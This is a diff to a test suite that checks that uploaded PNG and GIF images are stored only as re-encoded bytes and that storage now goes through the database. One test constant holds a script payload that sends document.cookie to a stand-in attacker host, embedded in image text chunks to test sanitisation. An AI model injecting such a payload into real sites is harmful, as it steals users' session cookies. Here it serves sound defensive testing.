@@ -1,19 +1,15 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { mkdtempSync } from 'node:fs';
-import { readFile } from 'node:fs/promises';
-import os from 'node:os';
-import path from 'node:path';
 import { deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { eq } from 'drizzle-orm';
 import * as t from '@/db/schema';
 import { seedDemo } from '@/db/seed';
-import { saveMaterial } from '@/db/materials/store';
+import { readMaterialBytes, saveMaterial } from '@/db/materials/store';
 import { freshDb, TEST_TARGETS, type TestDb } from '../support/db';
 import { gif, gifSubBlocks, ihdr, png, PNG_SIGNATURE, pngChunk, textChunk } from '../support/images';
 
 // Stored uploads are the decoder's re-encoding, never the bytes sent: text chunks, EXIF and whatever hides
-// in the pixel stream do not reach the disk.
+// in the pixel stream are never stored.
 
 /** The chunk types of a PNG, in order. */
 function chunkTypes(b: Buffer): string[] {
@@ -27,9 +23,7 @@ const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</scrip
 describe.each(TEST_TARGETS)('re-encoded uploads on %s', (target) => {
   let h: TestDb;
   let owner: string;
-  const dir = mkdtempSync(path.join(os.tmpdir(), 'reencode-'));
   beforeAll(async () => {
-    process.env.UPLOAD_DIR = dir;
     h = await freshDb(target);
     await seedDemo(h.db, { quiet: true });
     owner = (await h.db.select().from(t.users)).find((u) => u.email === 'filer@beian.example')!.id;
@@ -37,7 +31,7 @@ describe.each(TEST_TARGETS)('re-encoded uploads on %s', (target) => {
   afterAll(() => h?.close());
   const store = async (bytes: Buffer, fileName: string) => {
     const m = await saveMaterial(h.db, { ownerId: owner, bytes, fileName, kind: 'domain_certificate' });
-    return { m, stored: await readFile(path.join(dir, m.id)) };
+    return { m, stored: (await readMaterialBytes(h.db, m.id))! };
   };
 
   it('a PNG with a script in tEXt, zTXt and iTXt chunks is stored without any text chunk', async () => {
